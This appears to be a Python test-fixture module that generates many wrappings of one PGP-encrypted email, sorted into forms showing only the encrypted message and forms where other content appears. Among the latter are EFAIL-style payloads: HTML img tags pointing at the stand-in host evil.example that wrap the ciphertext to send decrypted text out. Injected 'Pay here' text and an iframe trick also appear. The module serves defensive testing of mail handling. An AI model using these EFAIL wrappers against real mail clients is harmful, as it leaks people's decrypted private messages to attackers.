"""Mails to the desk in every form that mail programs, servers and attackers give to one encrypted message."""

from __future__ import annotations

import base64
import quopri
from collections.abc import Callable
from email.utils import formatdate

HEAD = (
    f"From: Bob <bob@user.example>\r\nTo: desk@desk.example\r\nSubject: outside\r\nDate: {formatdate()}\r\n"
)
VERSION = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
EMPTY = (
    "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\r\n"
)
FOOTER = "Content-Type: text/plain\r\n\r\n_______\r\nlist mailing list\r\n"
WORDS = "Content-Type: text/plain\r\n\r\nPlease have a look.\r\n"
Form = Callable[[str], str]
"""Armor in, mail out."""


def multipart(kind: str, *parts: str, boundary: str = "b", head: str = "", more: str = "") -> str:
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return (
        f'{head}Content-Type: multipart/{kind}; boundary="{boundary}"{more}\r\n\r\n{body}--{boundary}--\r\n'
    )


def data(armor: str, head: str = "") -> str:
    return f"Content-Type: application/octet-stream{head}\r\n\r\n{armor}"


def in_base64(kind: str, name: str, content: str) -> str:
    body = base64.encodebytes(content.encode()).decode()
    place = f'Content-Disposition: attachment; filename="{name}"; size=12'
    return (
        f'Content-Type: {kind}; name="{name}"\r\n{place}\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}'
    )


def plain(text: str, head: str = "") -> str:
    return f"Content-Type: text/plain{head}\r\n\r\n{text}"


def html(body: str) -> str:
    return f"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>{body}</body></html>"


def pgp_mime(armor: str, head: str = "") -> str:
    return multipart("encrypted", VERSION, data(armor), boundary="pgp", head=head)


def quoted_printable(text: str) -> str:
    body = quopri.encodestring(text.encode()).decode()
    return f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{body}"


EXCHANGED = (
    in_base64("application/pgp-encrypted", "PGPMIME version identification", "Version: 1\r\n"),
    lambda armor: in_base64("application/octet-stream", "encrypted.asc", armor),
)


def exchange(armor: str, *beside: str, first: str = EMPTY, kind: str = "mixed") -> str:
    return multipart(kind, first, EXCHANGED[0], EXCHANGED[1](armor), *beside, head=HEAD)


WHOLE: dict[str, Form] = {
    "PGP/MIME": lambda armor: pgp_mime(armor, HEAD),
    "PGP/MIME with its parameters lost": lambda armor: multipart("encrypted", VERSION, data(armor), head=HEAD),
    "PGP/MIME with its boundary lost": lambda armor: pgp_mime(armor, HEAD).replace('; boundary="pgp"', ""),
    "PGP/MIME without version": lambda armor: multipart("encrypted", data(armor), head=HEAD),
    "PGP/MIME behind an empty part": lambda armor: multipart("encrypted", EMPTY, VERSION, data(armor), head=HEAD),
    "a list's wrapper": lambda armor: multipart("mixed", pgp_mime(armor), head=HEAD),
    "Exchange": exchange,
    "Exchange, no empty text": lambda armor: multipart("mixed", EXCHANGED[0], EXCHANGED[1](armor), head=HEAD),
    "Exchange, another multipart": lambda armor: exchange(armor, kind="related"),
    "Exchange, the version a plain file": lambda armor: multipart(
        "mixed", in_base64("application/octet-stream", "version.txt", "Version: 1\n"), data(armor), head=HEAD
    ),
    "Exchange in a list's wrapper": lambda armor: multipart("mixed", exchange(armor)[len(HEAD) :], boundary="w", head=HEAD),
    "inline": lambda armor: f"{HEAD}\r\n{armor}",
    "inline in quoted-printable": lambda armor: HEAD + quoted_printable(armor),
    "inline in quoted-printable that was not undone": lambda armor: HEAD + plain(quopri.encodestring(armor.encode()).decode()),
    "inline in base64": lambda armor: HEAD + in_base64("text/plain", "", armor).replace("attachment", "inline").replace('; filename=""', "").replace('; name=""', ""),
    "inline in a scanner's wrapper": lambda armor: multipart("mixed", plain(armor), head=HEAD),
    "inline of an old mutt": lambda armor: f"{HEAD}Content-Type: application/pgp; format=text; x-action=encrypt\r\n\r\n{armor}",
    "inline, quoted": lambda armor: f"{HEAD}\r\n> " + armor.strip().replace("\n", "\n> "),
    "inline, no empty line": lambda armor: f"{HEAD}\r\n{armor.replace(chr(10) * 2, chr(10), 1)}",
    "inline, no-break space": lambda armor: f"{HEAD}Content-Type: text/plain; charset=utf-8\r\n\r\n"
    + armor.replace("\n\n", "\n\u00a0\n", 1),
    "inline, one line": lambda armor: f"{HEAD}\r\n{armor.replace(chr(10), ' ')}",
    "inline, other line breaks": lambda armor: f"{HEAD}\r\n{armor.replace(chr(10), chr(13) + chr(10) * 2)}",
    "inline, breaks of HTML": lambda armor: f"{HEAD}\r\n{armor.replace(chr(10), '<br>' + chr(10))}",
    "inline, no check sum": lambda armor: f"{HEAD}\r\n" + "".join(
        line for line in armor.splitlines(keepends=True) if not (line.startswith("=") and len(line) == 6)
    ),
    "inline, junk behind": lambda armor: f"{HEAD}\r\n{armor}\r\n-- \r\n\u00a0\r\n.\r\n",
}  # fmt: skip
"""All that a reader would see of these is one encrypted message."""

PARTIAL: dict[str, Form] = {
    "a list's footer": lambda armor: multipart("mixed", pgp_mime(armor), FOOTER, head=HEAD),
    "a list's footer in an Exchange": lambda armor: exchange(armor, FOOTER),
    "words in an Exchange": lambda armor: exchange(armor, first=WORDS),
    "HTML in an Exchange": lambda armor: exchange(armor, first=html("Pay here")),
    "text before": lambda armor: f"{HEAD}\r\nHello\r\n{armor}",
    "text after": lambda armor: f"{HEAD}\r\n{armor}\r\nPay to account X.",
    "far text after": lambda armor: f"{HEAD}\r\n{armor}" + "\r\n.\r\n" * 300 + "Pay",
    "text behind the mark": lambda armor: f"{HEAD}\r\n{armor.strip()} Pay",
    "a quotation under an answer": lambda armor: f"{HEAD}\r\nI cannot read this.\r\n> " + armor.replace("\n", "\n> "),
    "HTML": lambda armor: HEAD + html(f"<pre>{armor}</pre>"),
    "HTML in lines": lambda armor: HEAD + html("".join(f"<div>{line or '&nbsp;'}</div><br>" for line in armor.splitlines())),
    "an alternative": lambda armor: multipart("alternative", plain(armor), html("Pay here"), head=HEAD),
    "an alternative of PGP/MIME": lambda armor: multipart("alternative", plain("Hi"), pgp_mime(armor), head=HEAD),
    "a signature around": lambda armor: multipart("signed", pgp_mime(armor), "Content-Type: application/pgp-signature\r\n\r\nx", head=HEAD),
    "a file": lambda armor: multipart("mixed", WORDS, in_base64("application/octet-stream", "report.pdf.gpg", armor), head=HEAD),
    "a file alone": lambda armor: multipart("mixed", in_base64("application/octet-stream", "report.pdf.asc", armor), head=HEAD),
    "Outlook's parts": lambda armor: multipart("mixed", plain(armor), in_base64("application/octet-stream", "PGPexch.htm.pgp", armor), head=HEAD),
    "a forwarded mail": lambda armor: multipart("mixed", WORDS, f"Content-Type: message/rfc822\r\n\r\n{pgp_mime(armor, HEAD)}", head=HEAD),
    "a mail that is a forwarded mail": lambda armor: f"{HEAD}Content-Type: message/rfc822\r\n\r\n{pgp_mime(armor, HEAD)}",
    "EFAIL, an image": lambda armor: multipart("mixed", html('<img src="http://evil.example/'), pgp_mime(armor), html('">'), head=HEAD),
    "EFAIL, in one text": lambda armor: HEAD + html(f'<img src="http://evil.example/{armor}">'),
    "related to HTML": lambda armor: multipart("related", html('<iframe src="cid:x">'), pgp_mime(armor), head=HEAD),
    "a false wrapper": lambda armor: multipart("mixed", multipart("mixed", pgp_mime(armor), FOOTER, boundary="i"), head=HEAD),
    "two wrappers": lambda armor: multipart("mixed", multipart("mixed", pgp_mime(armor), boundary="i"), boundary="o", head=HEAD),
    "two types": lambda armor: f"Content-Type: text/plain\r\n{pgp_mime(armor, HEAD)}",
    "two boundaries": lambda armor: multipart("mixed", pgp_mime(armor), WORDS, head=HEAD, more='; boundary="pgp"'),
    "two messages": lambda armor: f"{HEAD}\r\n{armor}\r\n{armor}",
    "a version with words": lambda armor: multipart("mixed", plain("Version: 1\r\nPay here"), data(armor), head=HEAD),
    "a clear signature around": lambda armor: f"{HEAD}\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\n- {armor.replace(chr(10) + '-----E', chr(10) + '- -----E')}"
    "\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----\r\n",
}  # fmt: skip
"""In these something else can be seen, or the message stands where its place does not say that it is all."""
